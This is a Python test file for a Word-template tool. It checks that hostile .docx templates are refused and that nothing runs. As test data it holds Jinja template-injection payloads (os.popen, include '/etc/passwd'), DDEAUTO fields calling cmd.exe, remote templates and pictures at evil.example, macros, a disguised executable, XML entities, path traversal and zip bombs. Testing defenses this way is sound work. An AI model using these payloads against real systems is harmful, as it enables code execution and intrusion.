"""Templates that mean harm: each is refused in a sentence, by check and by render alike, and nothing of it runs."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Iterable
from pathlib import Path

import pytest

import rendered
import test_layers
from drafter.word import guard, package, templates
from planting import (
    CORE,
    DOCUMENT,
    EVEN,
    OFFICE,
    PARTS,
    RELATIONSHIPS,
    ROOT,
    SETTINGS,
    STYLES,
    TYPES,
    above_report,
    beside_date,
    checked,
    planted,
    refusal,
    related,
    zipped,
)

OPEN = "openxmlformats-officedocument.wordprocessingml"
MICROSOFT = "http://schemas.microsoft.com/office"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
SUBJECT = '<dc:subject xmlns:dc="http://purl.org/dc/elements/1.1/">'


def field(*instruction: str) -> bytes:
    """A template with a Word field whose instruction is in these runs."""
    runs = "".join(f"<w:r><w:instrText>{words}</w:instrText></w:r>" for words in instruction)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return planted(beside_date(f"{begin}{runs}{end}"))


def with_settings(kind: str, target: str) -> bytes:
    relationship = f'<Relationship Id="a" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    uri = "http://schemas.openxmlformats.org/package/2006/relationships"
    made = f'<Relationships xmlns="{uri}">{relationship}</Relationships>'
    return planted(**{"word/_rels/settings.xml.rels": made.encode()})


def vml(attribute: str) -> bytes:
    shape = f'<v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata {attribute}/></v:shape>'
    return planted(beside_date(f"<w:r><w:pict>{shape}</w:pict></w:r>"))


def crowded(paragraphs: str) -> bytes:
    return zipped({**PARTS, DOCUMENT: package.opened(planted(above_report(paragraphs)))[DOCUMENT]}.items())


def longer(part: str, end: bytes, content: bytes) -> bytes:
    """A template with more at the end of a part."""
    return zipped({**PARTS, part: PARTS[part].replace(end, content + end)}.items())


def more(*parts: tuple[str, bytes]) -> bytes:
    return zipped([*PARTS.items(), *parts])


DOCTYPE = '<!DOCTYPE w [<!ENTITY a "b">]>'
PARAGRAPH = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"
#: Code, place and some words of what is said of each.
HOSTILE: dict[str, tuple[bytes, str, str, str]] = {
    "a shell command in Jinja": (
        planted(beside_date("<w:r><w:t>{{ cycler.__init__.__globals__.os.popen('touch witness') }}</w:t></w:r>")),
        "T107", "first table, second row, third cell, second paragraph", "is refused",
    ),
    "a walk through classes": (
        planted((EVEN, "{{ running_head }}", "{{ running_head }}{{ ''.__class__.__mro__[1].__subclasses__() }}")),
        "T107", "header of even pages", "is refused",
    ),
    "Jinja where Word shows nothing": (
        planted((DOCUMENT, 'w:tblpX="1135"', "w:tblpX=\"{{ ''.__class__ }}\"")),
        "T107", "what Word does not show as text", "is refused",
    ),
    "Jinja in the properties of the file": (
        planted((CORE, "</cp:coreProperties>", f"{SUBJECT}{{{{ ''.__class__ }}}}</dc:subject></cp:coreProperties>")),
        "T107", "the properties of the file", "is refused",
    ),
    "a file that Jinja includes": (
        planted(beside_date("<w:r><w:t>{% include '/etc/passwd' %}</w:t></w:r>")),
        "T107", "first table, second row, third cell, second paragraph", "is refused",
    ),
    "another template": (
        with_settings("attachedTemplate", "http://evil.example/x.dotm"),
        "T412", "the settings of the document", "attached to another template, “http://evil.example/x.dotm”",
    ),
    "a linked picture": (
        planted(related("image", "http://evil.example/a.png")),
        "T412", "the text", "fetched (image): “http://evil.example/a.png”",
    ),
    "a linked picture in a header": (
        planted(**{"word/_rels/header1.xml.rels": package.opened(
            with_settings("image", "//server/a.png"))["word/_rels/settings.xml.rels"]}),
        "T412", "header of even pages", "fetched (image): “//server/a.png”",
    ),
    "a linked object": (
        planted(related("oleObject", "file:///c:/a.xls")), "T412", "the text", "fetched (oleObject)",
    ),
    "a link to a shared folder": (
        planted(related("hyperlink", "file://server/share")), "T412", "the text", "no address of the web or of mail",
    ),
    "a drawing that is fetched": (vml('src="http://evil.example/a.png"'), "T412", "the text", "a picture is fetched"),
    "the data of a mail merge": (
        planted((SETTINGS, "<w:zoom", '<w:mailMerge><w:connectString w:val="a"/></w:mailMerge><w:zoom')),
        "T412", "the settings of the document", "mail merge",
    ),
    "macros": (
        planted(related("vbaProject", "vbaProject.bin", False, of=f"{MICROSOFT}/2006/relationships"),
                **{"word/vbaProject.bin": OLE}),
        "T410", "the text", "it holds macros",
    ),
    "macros that nothing leads to": (
        planted(**{"word/vbaProject.bin": OLE}), "T411", "the file itself", "it holds word/vbaProject.bin",
    ),
    "a macro at the ribbon": (
        planted(related("ui/extensibility", "customUI/a.xml", False, ROOT, f"{MICROSOFT}/2007/relationships")),
        "T410", "the file itself", "it holds macros",
    ),
    "a control": (
        planted(beside_date('<w:r><w:object><w:control r:id="a"/></w:object></w:r>')),
        "T411", "the text", "an object of another program",
    ),
    "an embedded object": (
        planted(related("oleObject", "embeddings/a.bin", False), **{"word/embeddings/a.bin": OLE}),
        "T411", "the text", "an object of another program",
    ),
    "an embedded workbook": (
        planted(related("package", "embeddings/a.xlsx", False), **{"word/embeddings/a.xlsx": b"PK\x03\x04"}),
        "T411", "the text", "an object of another program",
    ),
    "a program called a picture": (
        planted(**{"word/media/a.png": b"MZ\x90\0"}), "T411", "the file itself", "it holds word/media/a.png",
    ),
    "another document": (
        planted(above_report('<w:altChunk r:id="planted"/>'), related("aFChunk", "a.html", False)),
        "T413", "the text", "altChunk",
    ),
    "an add-in": (
        planted(related("webextensiontaskpanes", "word/a.xml", False, ROOT, f"{MICROSOFT}/2011/relationships")),
        "T414", "the file itself", "an add-in",
    ),
    "INCLUDETEXT": (field(' INCLUDETEXT "c:/a.docx" '), "T415", "the text", "INCLUDETEXT"),
    "INCLUDEPICTURE": (field('INCLUDEPICTURE "http://evil.example/a"'), "T415", "the text", "INCLUDEPICTURE"),
    "DDEAUTO": (field("ddeauto c:/windows/cmd.exe"), "T415", "the text", "ddeauto"),
    "a field in two runs": (field("DDE", 'AUTO c:/windows/cmd.exe "/k"'), "T415", "the text", "DDEAUTO"),
    "a field in one element": (
        planted((DOCUMENT, "<w:r><w:t>{{ date }}</w:t></w:r>",
                 '<w:fldSimple w:instr="LINK Excel"><w:r><w:t>{{ date }}</w:t></w:r></w:fldSimple>')),
        "T415", "the text", "“LINK Excel”",
    ),
    "an entity": (planted((EVEN, "<w:hdr", f"{DOCTYPE}<w:hdr")), "T403", "header of even pages", "a document type"),
    "an entity in UTF-16": (
        planted(**{EVEN: f'<?xml version="1.0" encoding="UTF-16"?>{DOCTYPE}<w:hdr xmlns:w="w"/>'.encode("utf-16")}),
        "T403", "header of even pages", "a document type",
    ),
    "a comment in the XML": (
        planted((STYLES, "</w:styles>", "<!-- <w:style --></w:styles>")), "T403", "the styles", "a comment",
    ),
    "XML that is broken": (planted((STYLES, "</w:styles>", "")), "T404", "the styles", "damaged"),
    "XML that is too deep": (
        planted(above_report("<w:sdt>" * 3_000 + "</w:sdt>" * 3_000)), "T404", "the file itself", "damaged",
    ),
    "a bomb of pictures": (more(("word/media/a.png", bytes(60_000_000))), "T402", "the file itself", "more than"),
    "a bomb of text": (crowded(PARAGRAPH.format("a") * 100_000), "T402", "the file itself", "more than"),
    "a bomb of braces": (crowded(PARAGRAPH.format("{" * 3_000_000)), "T402", "the file itself", "more than"),
    "a bomb of styles": (
        longer(STYLES, b"</w:styles>", b"<w:style/>" * 300_000),
        "T402", "the file itself", "more than",
    ),
    "a bomb of fields": (crowded(PARAGRAPH.format("{{ date }}") * 450), "T107", "the file itself", "400 fields"),
    "a bomb of a field": (
        crowded(PARAGRAPH.format("{{" + "(" * 5_000 + "}}")), "T107",
        "paragraph 1: “{{(((((((((((((((((((((((((((((…”", "longer than any field",
    ),
    "a large bomb": (more(("word/a.bin", bytes(70_000_000))), "T401", "", "it unpacks to more than a Word file should"),
    "a way up": (more(("../a.xml", b"<a/>")), "T401", "", "leads out of the file, ../a.xml"),
    "a way up in between": (more(("word/../../a.xml", b"<a/>")), "T401", "", "leads out of the file"),
    "a way from the root": (more(("/etc/a.xml", b"<a/>")), "T401", "", "leads out of the file, /etc/a.xml"),
    "a way of Windows": (more(("word\\a.xml", b"<a/>")), "T401", "", "leads out of the file"),
    "a disk": (more(("c:/a.xml", b"<a/>")), "T401", "", "leads out of the file, c:/a.xml"),
    "a part twice": (more((DOCUMENT, b"<a/>")), "T401", "", "two parts of one name"),
    "a part twice but for capitals": (more(("Word/Document.xml", b"<a/>")), "T401", "", "two parts of one name"),
    "a document with macros": (
        planted((TYPES, f"{OPEN}.document.main", "ms-word.document.macroEnabled.main")),
        "T401", "", "this is a document with macros (.docm)",
    ),
    "a file under a password": (
        OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le"), "T401", "", "under a password",
    ),
    "a file of old": (OLE + "WordDocument".encode("utf-16-le"), "T401", "", "Word 97 to 2003 (.doc)"),
    "a PDF": (b"%PDF-1.7\n", "T401", "", "this is a PDF"),
    "rich text": (b"{\\rtf1 }", "T401", "", "Rich Text Format"),
    "no zip": (b"language: en\n", "T401", "", "this is plain text, not a Word document (.docx)"),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_template_is_refused_by_check_and_by_render(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    template, code, where, words = HOSTILE[name]
    monkeypatch.chdir(tmp_path)
    found = checked(template, tmp_path)

    assert (code, where) in [(flaw.code, flaw.where) for flaw in found], found
    (flaw,) = [flaw for flaw in found if (flaw.code, flaw.where) == (code, where)][:1]
    assert words in flaw.message
    assert templates.sentence(flaw) in refusal(template)
    assert [path.name for path in tmp_path.iterdir()] == ["mine.docx"], "something ran"


@pytest.mark.parametrize(
    "template",
    [
        field(" PAGE \\* MERGEFORMAT "),
        field("= 1 + 1"),
        field("page"),
        field('DISPLAYBARCODE "2002503" CODE39'),
        planted(related("hyperlink", "https://unfccc.int")),
        planted(related("hyperlink", "mailto:secretariat@unfccc.int")),
        vml('r:id="rIdEmblem" title="a: b"'),
        more(("word/media/a.svg", b"<!DOCTYPE svg><svg/>")),
    ],
)
def test_what_only_resembles_an_attack_is_let_through(template: bytes) -> None:
    assert guard.flaws(package.opened(template)) == ()


def test_everything_is_said_of_a_template_that_is_hostile_and_wrong(tmp_path: Path) -> None:
    template = planted(related("image", "http://evil.example/a.png"), (EVEN, "running_head", "runing_head"))

    assert [flaw.code for flaw in checked(template, tmp_path)] == ["T412", "T103"]


# Of the peak that resource tells, a child has at least what its parent had before the child became another program.
_MEASURED = """
import re, sys, time
from pathlib import Path
from drafter import templating
begun = time.process_time()
templating.check(Path(sys.argv[1]))
peak = re.search("VmHWM:[^0-9]+([0-9]+) kB", Path("/proc/self/status").read_text())
print(time.process_time() - begun, int(peak[1]) / 1024)
"""

STYLE = b'<w:style w:styleId="a"><w:name w:val="Reg_H_1_F"/></w:style>'
RELATIONSHIP = b'<Relationship Id="a%d" Type="image" Target="media/emblem.png"/>'
CELLS = "<w:tc><w:p><w:r><w:t>a</w:t></w:r></w:p></w:tc>" * 4_000


@pytest.mark.skipif(sys.platform != "linux", reason="the peak of memory is told in other units elsewhere")
@pytest.mark.parametrize(
    "template",
    [
        *(HOSTILE[name][0] for name in HOSTILE if "bomb" in name),
        crowded(PARAGRAPH.format("a") * 6_000),
        crowded(f"<w:tbl><w:tblGrid/><w:tr>{CELLS}</w:tr></w:tbl>"),
        crowded(PARAGRAPH.format("{{") * 380),
        crowded(PARAGRAPH.format("{% if date %}") * 380),
        crowded(PARAGRAPH.format("{{" + " " * 90_000)),
        crowded(PARAGRAPH.format("{ " * 900)),
        longer(STYLES, b"</w:styles>", STYLE * 14_000),
        longer("word/numbering.xml", b"</w:numbering>", b'<w:num w:numId="9"/>' * 40_000),
        longer(RELATIONSHIPS, b"</Relationships>", b"".join(RELATIONSHIP % at for at in range(18_000))),
        more(*((f"word/a{at}.xml", b"<a/>") for at in range(1_900))),
        more(("word/media/a.png", bytes(31_000_000))),
    ],
)  # fmt: skip
def test_time_and_memory_are_bounded(template: bytes, tmp_path: Path) -> None:
    """The bound is two seconds on a machine of its own; tests share theirs."""
    path = tmp_path / "mine.docx"
    path.write_bytes(template)
    ran = subprocess.run(
        [sys.executable, "-c", _MEASURED, path], capture_output=True, text=True, check=True, timeout=60
    )
    seconds, megabytes = map(float, ran.stdout.split())

    assert seconds < 4
    assert megabytes < 300


def test_the_guard_asks_no_library_that_could_be_fooled() -> None:
    assert set(test_layers.imported(test_layers.modules()["word.guard"])) <= {
        "__future__", "re", "collections.abc", "drafter.place", "drafter.word", "drafter.word.sites", "xml.parsers",
        "xml.parsers.expat", *_names("collections.abc", "Iterator", "Mapping"), *_names("drafter.place", "Flaw"),
    }  # fmt: skip


def _names(module: str, *names: str) -> Iterable[str]:
    return (f"{module}.{name}" for name in names)


def test_render_says_how_much_more_there_is_to_say(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from drafter import cli

    monkeypatch.chdir(tmp_path)
    template = planted(related("image", "http://evil.example/a.png"), (EVEN, "running_head", "runing_head"))
    Path("mine.docx").write_bytes(template)
    Path("a.yaml").write_text(rendered.english("P."), encoding="utf-8")

    assert cli.main(["render", "a.yaml", "--template", "mine.docx"]) == 1
    assert not Path("a.docx").exists()
    said = capsys.readouterr().err
    assert said.startswith("drafter: mine.docx: this template cannot be used: something outside of the file is fetched")
    assert said.endswith(" (and 1 more: drafter template check mine.docx names them all)\n")
